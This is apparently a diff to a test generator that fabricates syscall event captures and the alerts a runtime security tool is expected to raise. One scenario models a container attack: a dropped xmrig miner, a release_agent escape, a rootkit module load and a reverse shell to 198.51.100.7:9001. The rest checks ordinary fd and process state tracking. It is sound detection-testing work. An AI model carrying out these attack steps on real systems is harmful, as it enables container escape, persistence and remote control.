+            CTR1_CG, CL_CHILD_CLEARTID | CL_CHILD_SETTID | (1 << 29), vtid=7, vpid=7,
+            pidns_start=10000000000)
+    h_execve(c, 931, 0, "/tmp/xmrig", ["-o", "pool:3333"], 931, 930, "xmrig", CTR1_CG, ROOT_ENV,
+             "/tmp/xmrig", "/tmp/xmrig", flags=EXE_UPPER_LAYER | EXE_WRITABLE, caps=caps_admin,
+             ino=(777, 1699999990000000000, 1699999980000000000), pgid=7, cwd="/tmp")
+    # proc.sname: the eldest ancestor with the same sid (in a pid namespace): the shim;
+    # ctime_duration_proc_start = clone_ts - exe ctime; proc.cwd: execve does not change the
+    # cwd (inherited at clone from the shim), its cwd parameter is not used
+    c.expect(FA, "Drop and execute new binary in container", "Critical",
+             "Executing binary not part of base image | proc_exe=/tmp/xmrig proc_sname=containerd-shim "
+             "gparent=containerd-shim proc_exe_ino_ctime=1699999990000000000 proc_exe_ino_mtime=1699999980000000000 "
+             "proc_exe_ino_ctime_duration_proc_start=10000015000 proc_cwd=/run/containerd/ "
+             "container_start_ts=1699990010000000000 " +
+             tail("execve", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0,
+                  "EXE_WRITABLE|EXE_UPPER_LAYER"))
+    # release_agent escape and a kernel module load from the container
+    c.event("PPME_SYSCALL_OPENAT_2_X", 931, 3, AT_FDCWD, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY | O_TRUNC,
+            0, 0x2f, 91)
+    c.expect(FA, "Detect release_agent File Container Escapes", "Critical",
+             "Detect an attempt to exploit a container escape using release_agent file | "
+             "file=/sys/fs/cgroup/rdma/release_agent cap_effective=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID "
+             "CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_MODULE "
+             "CAP_SYS_CHROOT CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP " +
+             tail("openat", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0))
+    c.event("PPME_SYSCALL_OPENAT_2_X", 931, 4, AT_FDCWD, "rootkit.ko", O_RDONLY | O_CLOEXEC, 0, 0x2f, 92)
+    c.event("PPME_SYSCALL_FINIT_MODULE_X", 931, 0, 4, "", 0)
+    c.expect(FA, "Linux Kernel Module Injection Detected", "Warning",
+             "Linux Kernel Module injection from container | parent_exepath=/bin/busybox gparent=containerd-shim "
+             "gexepath=/usr/bin/containerd-shim-runc-v2 module=-o pool:3333 res=SUCCESS " +
+             tail("finit_module", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0))
+    c.event("PPME_SYSCALL_INIT_MODULE_X", 931, -17, b"\x7fELF\x02\x01", 6, "debug=1")
+    c.expect(FA, "Linux Kernel Module Injection Detected", "Warning",
+             "Linux Kernel Module injection from container | parent_exepath=/bin/busybox gparent=containerd-shim "
+             "gexepath=/usr/bin/containerd-shim-runc-v2 module=-o pool:3333 res=EEXIST " +
+             tail("init_module", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0))
+    # reverse shell with the current dup2/dup3 events
+    c.event("PPME_SOCKET_SOCKET_X", 931, 5, 2, 1, 6, 0)
+    c.event("PPME_SOCKET_CONNECT_X", 931, 0, ("inet", "172.17.0.2", 41000, "198.51.100.7", 9001), 5,
+            ("inet", "198.51.100.7", 9001))
+    for newfd, sym in ((0, "PPME_SYSCALL_DUP2_X"), (1, "PPME_SYSCALL_DUP3_X")):
+        c.event(sym, 931, newfd, 5, newfd, *((O_CLOEXEC,) if sym.endswith("DUP3_X") else ()))
+        c.expect(FA, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
+                 "Redirect stdout/stdin to network connection | gparent=containerd-shim ggparent=systemd "
+                 "gggparent=<NA> fd.sip=198.51.100.7 connection=172.17.0.2:41000->198.51.100.7:9001 lport=41000 "
+                 "rport=9001 fd_type=ipv4 fd_proto=tcp " +
+                 tail(sym[13:-2].lower(), "root", 0, -1, "xmrig", "/tmp/xmrig", "sh", "xmrig -o pool:3333", 0))
+    c.event("PPME_SYSCALL_DUP_1_X", 931, 6, 5)
+    # state events of the current schema
+    c.event("PPME_SYSCALL_PIPE2_X", 931, 0, 7, 8, 5151, O_CLOEXEC)
+    c.event("PPME_SYSCALL_PRCTL_X", 931, 0, 36, None, 1)
+    c.event("PPME_SOCKET_ACCEPT4_6_X", 701, 13, ("inet", "192.0.2.44", 50505, "10.0.0.5", 80), 0, 0, 511, 0x800)
+    c.event("PPME_SYSCALL_READ_X", 701, 5, b"GET /", 13, 4096)
+    c.event("PPME_SYSCALL_CLOSE_X", 701, 0, 13)
+    c.event("PPME_PROCEXIT_1_E", 931, 0, 0, 0, 0, 930)
+
+
+def s_state(c):
+    """State bookkeeping across events: fd inheritance over fork, CLOEXEC fds closed by
+    execve, threads sharing the fd table, fd reuse after close, execve by a secondary thread,
+    execve whose cwd parameter differs from the inherited cwd, setsid/setpgid, rlimits, fd
+    types from eventfd/signalfd/timerfd/inotify, chroot, generic syscalls, the old procexit
+    without parameters."""
+    world(c)
+    # bash opens a file with and without CLOEXEC, forks; the child sees both until execve
+    c.event("PPME_SYSCALL_OPEN_E", 600, "/home/alice/.bash_history", O_WRONLY | O_APPEND, 0)
+    c.event("PPME_SYSCALL_OPEN_X", 600, 3, "/home/alice/.bash_history", O_WRONLY | O_APPEND, 0, 0x803, n=5)
+    c.event("PPME_SYSCALL_OPEN_E", 600, "/etc/ld.so.cache", O_RDONLY | O_CLOEXEC, 0)
+    c.event("PPME_SYSCALL_OPEN_X", 600, 4, "/etc/ld.so.cache", O_RDONLY | O_CLOEXEC, 0, 0x803, n=5)
+    c.event("PPME_SYSCALL_FORK_20_E", 600)
+    clone_x(c, "PPME_SYSCALL_FORK_20_X", 600, 670, 600, 600, 510, "-bash", [], "bash",
+            CL_CHILD_CLEARTID | CL_CHILD_SETTID)
+    clone_x(c, "PPME_SYSCALL_FORK_20_X", 670, 0, 670, 670, 600, "-bash", [], "bash",
+            CL_CHILD_CLEARTID | CL_CHILD_SETTID)
+    c.event("PPME_SYSCALL_READ_E", 670, 4, 10)
+    c.event("PPME_SYSCALL_READ_X", 670, 10, b"0123456789")
+    c.event("PPME_SYSCALL_EXECVE_19_E", 670, "/usr/bin/make")
+    # the cwd parameter of the execve is not the inherited cwd (a chdir in between lost)
+    execve_x(c, 670, 0, "make", ["-j2"], 670, 600, "make", cwd="/home/alice/src")
+    c.event("PPME_SYSCALL_WRITE_E", 670, 3, 5)
+    c.event("PPME_SYSCALL_WRITE_X", 670, 5, b"make\n")
+    # fd reuse: close 3, open another file as 3
+    c.event("PPME_SYSCALL_CLOSE_E", 670, 3)
+    c.event("PPME_SYSCALL_CLOSE_X", 670, 0)
+    c.event("PPME_SYSCALL_OPEN_E", 670, "Makefile", O_RDONLY, 0)
+    c.event("PPME_SYSCALL_OPEN_X", 670, 3, "Makefile", O_RDONLY, 0, 0x803, n=5)
+    c.event("PPME_SYSCALL_READ_E", 670, 3, 4)
+    c.event("PPME_SYSCALL_READ_X", 670, 4, b"all:")
+    # a thread of make (CLONE_FILES): it uses the process's fd table
+    tfl = CL_VM | CL_FS | CL_FILES | CL_SIGHAND | CL_THREAD | CL_SETTLS | CL_CHILD_CLEARTID
+    c.event("PPME_SYSCALL_CLONE_20_E", 670)
+    clone_x(c, "PPME_SYSCALL_CLONE_20_X", 670, 671, 670, 670, 600, "make", ["-j2"], "make", tfl)
+    clone_x(c, "PPME_SYSCALL_CLONE_20_X", 671, 0, 671, 670, 600, "make", ["-j2"], "make", tfl)
+    c.event("PPME_SYSCALL_READ_E", 671, 3, 4)
+    c.event("PPME_SYSCALL_READ_X", 671, 4, b"\tcc ")
+    c.event("PPME_SYSCALL_OPEN_E", 671, "/tmp/make.lock", O_RDWR | O_CREAT, 0o600)
+    c.event("PPME_SYSCALL_OPEN_X", 671, 5, "/tmp/make.lock", O_RDWR | O_CREAT, 0o600, 0x803, n=5)
+    c.event("PPME_SYSCALL_WRITE_E", 670, 5, 1)
+    c.event("PPME_SYSCALL_WRITE_X", 670, 1, b"1")
+    # fd types
+    c.event("PPME_SYSCALL_EVENTFD_E", 670, 0, 0)
+    c.event("PPME_SYSCALL_EVENTFD_X", 670, 6)
+    c.event("PPME_SYSCALL_SIGNALFD_E", 670, -1, 0, 0)
+    c.event("PPME_SYSCALL_SIGNALFD_X", 670, 7)
+    c.event("PPME_SYSCALL_TIMERFD_CREATE_E", 670, 1, 0)
+    c.event("PPME_SYSCALL_TIMERFD_CREATE_X", 670, 8)
+    c.event("PPME_SYSCALL_INOTIFY_INIT_E", 670, 0)
+    c.event("PPME_SYSCALL_INOTIFY_INIT_X", 670, 9)
+    for fd in (6, 7, 8, 9):
+        c.event("PPME_SYSCALL_READ_E", 670, fd, 8)
+        c.event("PPME_SYSCALL_READ_X", 670, 8, b"\x01\x00\x00\x00\x00\x00\x00\x00")
+    # session and process group, limits
+    c.event("PPME_SYSCALL_SETSID_E", 670)
+    c.event("PPME_SYSCALL_SETSID_X", 670, 670)
+    c.event("PPME_SYSCALL_SETPGID_E", 670, 0, 670)
+    c.event("PPME_SYSCALL_SETPGID_X", 670, 0)
+    c.event("PPME_SYSCALL_SETRLIMIT_E", 670, 7)
+    c.event("PPME_SYSCALL_SETRLIMIT_X", 670, 0, 4096, 8192)
+    c.event("PPME_SYSCALL_PRLIMIT_E", 670, 0, 7)
+    c.event("PPME_SYSCALL_PRLIMIT_X", 670, 0, 2048, 4096, 4096, 8192)
+    c.event("PPME_SYSCALL_GETRLIMIT_E", 670, 7)
+    c.event("PPME_SYSCALL_GETRLIMIT_X", 670, 0, 2048, 4096)
+    # generic syscalls (ppm_sc ids) with and without the native id
+    c.event("PPME_GENERIC_E", 670, 99, 24)
+    c.event("PPME_GENERIC_X", 670, 99)
+    c.event("PPME_GENERIC_E", 670, 139, 28)
+    c.event("PPME_GENERIC_X", 670, 139)
+    # execve by the secondary thread: it becomes the process (tid 671 takes over)
+    c.event("PPME_SYSCALL_EXECVE_19_E", 671, "/usr/bin/cc")
+    execve_x(c, 671, 0, "cc", ["-c", "main.c"], 670, 600, "cc", cwd="/home/alice/src")
+    c.event("PPME_SYSCALL_READ_E", 671, 3, 4)
+    c.event("PPME_SYSCALL_READ_X", 671, 4, b"int ")
+    # chroot, then an open relative to the new root
+    c.event("PPME_SYSCALL_CHROOT_E", 600)
+    c.event("PPME_SYSCALL_CHROOT_X", 600, 0, "/srv/jail")
+    c.event("PPME_SYSCALL_OPEN_E", 600, "/etc/motd", O_RDONLY, 0)
+    c.event("PPME_SYSCALL_OPEN_X", 600, 5, "/etc/motd", O_RDONLY, 0, 0x803, n=5)
+    # the old procexit without parameters, then an event of the dead process's parent
+    c.event("PPME_PROCEXIT_E", 671)
+    c.event("PPME_SYSCALL_WRITE_E", 600, 1, 2)
+    c.event("PPME_SYSCALL_WRITE_X", 600, 2, b"$ ")
+    c.event("PPME_SYSCALL_WRITE_E", 800, 6, 2)
+    c.event("PPME_SYSCALL_WRITE_X", 800, 2, b"ok")
+
+
 SCENARIOS = [
     ("gen_proc", s_proc),
     ("gen_files", s_files),
     ("gen_net", s_net),
+    ("gen_attack", s_attack),
+    ("gen_head", s_head),
+    ("gen_state", s_state),
 ]
 # the captures compared field by field with sysdig 0.29.3 (tests/sysdig_diff)
-COMPARED = {"gen_proc", "gen_files", "gen_net"}
+COMPARED = {"gen_proc", "gen_files", "gen_net", "gen_attack", "gen_state"}
